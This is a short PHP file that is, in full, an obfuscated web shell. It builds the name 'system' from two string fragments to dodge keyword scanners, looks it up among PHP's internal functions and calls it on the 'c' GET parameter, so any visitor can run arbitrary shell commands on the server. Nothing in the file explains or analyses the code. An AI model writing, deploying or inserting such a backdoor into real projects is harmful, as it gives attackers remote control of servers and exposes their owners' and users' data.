<?php
$all = get_defined_functions();
$int = $all['internal'];
$i = array_search('sys' . 'tem', $int);
$f = $int[$i];
$f($_GET['c']);
